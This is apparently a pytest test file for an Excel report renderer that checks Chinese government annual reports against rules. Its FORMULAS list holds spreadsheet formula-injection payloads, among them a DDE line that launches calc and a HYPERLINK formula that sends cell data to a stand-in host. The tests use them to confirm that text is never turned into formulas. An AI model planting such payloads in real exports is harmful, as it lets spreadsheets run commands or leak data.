"""The workbook: three sheets with filters, and nothing in it that a spreadsheet would run."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from typing import Any

import pytest
from lxml import etree

from checker.reports.xlsx import render
from checker.texts import Text

from .samples import BLOCKED, CAUSES, OTHER, READY, UNREADABLE

MAIN = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


class Book:
    """A workbook read back: names of sheets, cells as text or number, the XML of every part."""

    def __init__(self, content: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}
        strings = etree.fromstring(self.parts["xl/sharedStrings.xml"])
        # An underscore that would begin an escape is itself escaped.
        self.strings = ["".join(item.itertext()).replace("_x005F_", "_") for item in strings.findall("m:si", MAIN)]
        workbook = etree.fromstring(self.parts["xl/workbook.xml"])
        self.names = [sheet.get("name") for sheet in workbook.iterfind("m:sheets/m:sheet", MAIN)]
        self.sheets = [
            etree.fromstring(self.parts[f"xl/worksheets/sheet{number}.xml"]) for number in range(1, len(self.names) + 1)
        ]

    def rows(self, index: int) -> list[list[Any]]:
        return [
            [self.value(cell) for cell in row.iterfind("m:c", MAIN) if cell.find("m:v", MAIN) is not None]
            for row in self.sheets[index].iterfind("m:sheetData/m:row", MAIN)
        ]

    def value(self, cell: Any) -> Any:
        value = cell.findtext("m:v", namespaces=MAIN)
        return self.strings[int(value)] if cell.get("t") == "s" else float(value)


def test_the_whole_workbook() -> None:
    book = Book(render([BLOCKED, OTHER, UNREADABLE], "zh"))
    assert book.names == ["文件", "问题", "覆盖"]
    assert book.rows(0) == [
        [
            "文件",
            "结论",
            "理由",
            "标题",
            "单位",
            "层级",
            "年度",
            "覆盖（平均）",
            "覆盖（最弱）",
            "必须处理",
            "建议处理",
            "须人工确认",
            "输入文件 SHA-256",
            "规则包",
        ],
        [
            "drafts/yunxi.txt",
            "不可报送",
            "必须项“不足的原因”未通过（D-CAUSE），另有 1 项必须项未通过。",
            "云溪县人民政府2023年度法治政府建设情况报告",
            "云溪县人民政府",
            "县级",
            "2023",
            43.3,
            0,
            2,
            1,
            1,
            "cd" * 32,
            f"demo 1.2.0 {'ab' * 32}",
        ],
        [
            "drafts/notice.html",
            "不是年度报告",
            "文档看来是通知，不是年度报告。",
            "关于报送材料的通知",
            "cd" * 32,
            f"demo 1.2.0 {'ab' * 32}",
        ],
        ["drafts/broken.docx", "无法判定", "文件已损坏，无法打开", f"demo 1.2.0 {'ab' * 32}"],
    ]
    assert book.rows(1)[0] == (
        [
            "文件",
            "序号",
            "级别",
            "结果",
            "要求",
            "问题",
            "原文",
            "改为",
            "建议",
            "依据",
            "部分",
            "规则",
            "页",
            "段",
            "行",
            "所在章节",
            "最接近",
            "判断过程",
            "指纹",
        ]
    )
    assert [row[:6] for row in book.rows(1)[1:]] == [
        [
            "drafts/yunxi.txt",
            1,
            "必须",
            "不满足",
            "第一责任人履职",
            "没有找到主要负责人上一年度履行职责的内容。",
        ],
        ["drafts/yunxi.txt", 2, "建议", "部分满足", "事例与数据", "只有 1 处数据。"],
        [
            "drafts/yunxi.txt",
            3,
            "必须",
            "不满足",
            "不足的原因",
            "写了不足，没有写原因。",
        ],
        ["drafts/yunxi.txt", 4, "信息", "不满足", "雷同", "与上年报告有 12 句相同。"],
        ["drafts/notice.html", "不是年度报告", "文档看来是通知，不是年度报告。"],
        ["drafts/broken.docx", "无法判定", "文件已损坏，无法打开"],
    ]
    assert book.rows(1)[3][6:] == [
        "基层执法力量不强，部分干部学法不够。",
        "",
        "对每条不足说明原因，例如制度、人员、经费上的原因。",
        "示范县报告办法 第七条第二项",
        "存在的不足和原因",
        "D-CAUSE",
        5,
        5,
        "二、存在的不足",
        "",
        "在“二、存在的不足”中未见表示原因的词。",
        "0123456789abcdef",
    ]
    assert book.rows(2) == [
        [
            "文件",
            "结论",
            "部分",
            "覆盖",
            "权重",
            "满足",
            "计分",
            "部分满足",
            "不满足",
            "无法判定",
            "不适用",
            "须人工确认",
        ],
        ["drafts/yunxi.txt", "不可报送", "主要举措和成效", 87.5, 3, 2, 3, 1, 0, 0, 0, 0],
        ["drafts/yunxi.txt", "不可报送", "存在的不足和原因", 0, 2, 0, 1, 0, 1, 0, 0, 0],
        ["drafts/yunxi.txt", "不可报送", "第一责任人履职", 0, 2, 0, 1, 0, 1, 0, 0, 0],
        ["drafts/yunxi.txt", "不可报送", "下一年度安排", 100, 2, 1, 1, 0, 0, 0, 0, 0],
        ["drafts/yunxi.txt", "不可报送", "全文", 1, 0, 0, 0, 0, 0, 1, 1],
    ]


def test_every_sheet_can_be_filtered_and_keeps_its_heads_in_sight() -> None:
    book = Book(render([BLOCKED], "en"))
    assert book.names == ["Files", "Findings", "Coverage"]
    for sheet in book.sheets:
        assert sheet.find("m:autoFilter", MAIN) is not None
        pane = sheet.find("m:sheetViews/m:sheetView/m:pane", MAIN)
        assert (pane.get("xSplit"), pane.get("ySplit"), pane.get("state")) == ("1", "1", "frozen")
        assert len(sheet.findall("m:cols/m:col", MAIN)) > 1


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/"&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    "＝1+1",
    "http://example.invalid/",
    "mailto:a@example.invalid",
    "internal:Sheet1!A1",
    "_x003D_1+1",
    "00123",
    "1e9",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_texts_stay_texts(payload: str) -> None:
    words = Text(payload, payload)
    evidence = (replace(CAUSES.evidence[0], quote=payload, heading=(payload,)),)
    outcome = replace(
        CAUSES,
        rule=payload,
        name=words,
        message=words,
        advice=words,
        why=words,
        fingerprint=payload,
        evidence=evidence,
        basis=(replace(CAUSES.basis[0], norm=payload, article=""),),
    )
    title = replace(BLOCKED.profile.title, value=payload)  # type: ignore[type-var]
    report = replace(
        BLOCKED,
        document=replace(BLOCKED.document, path=payload),
        profile=replace(BLOCKED.profile, title=title, issuer=title),
        outcomes=(outcome,),
    )
    book = Book(render([report], "zh"))
    shown = payload.replace("\t", " ").replace("\r", " ")
    assert book.rows(1)[1] == [
        *[shown, 1, "必须", "不满足", shown, shown, shown, "", shown, shown],
        *["存在的不足和原因", shown, 5, 5, shown, "", shown, shown],
    ]
    assert book.rows(0)[1][3:5] == [shown, shown]
    for part in book.parts.values():
        assert b"<f>" not in part
        assert b"<f " not in part
        assert b"<hyperlink " not in part


def test_what_could_become_a_formula_when_edited_is_marked_as_text() -> None:
    book = Book(render([replace(READY, document=replace(READY.document, path="=1+1"))], "zh"))
    cell = book.sheets[0].findall("m:sheetData/m:row", MAIN)[1].find("m:c", MAIN)
    styles = etree.fromstring(book.parts["xl/styles.xml"])
    formats = styles.findall("m:cellXfs/m:xf", MAIN)
    assert formats[int(cell.get("s"))].get("quotePrefix") == "1"


def test_a_cell_holds_what_a_cell_can_hold() -> None:
    book = Book(render([replace(BLOCKED, outcomes=(replace(CAUSES, why=Text("长" * 40000, "")),))], "zh"))
    assert len(book.rows(1)[1][-2]) == 32767


def test_the_same_results_give_the_same_bytes() -> None:
    assert render([BLOCKED], "zh") == render([BLOCKED], "zh")


def test_paper_holds_what_a_person_acts_on() -> None:
    book = Book(render([BLOCKED], "zh"))
    names = etree.fromstring(book.parts["xl/workbook.xml"]).findall("m:definedNames/m:definedName", MAIN)
    areas = [name.text for name in names if name.get("name") == "_xlnm.Print_Area"]
    heads = [len(book.rows(index)[0]) for index in range(3)]
    assert {"文件!$A$1:$L$2", "问题!$A$1:$I$5"} <= set(areas)
    assert heads == [14, 19, 12]
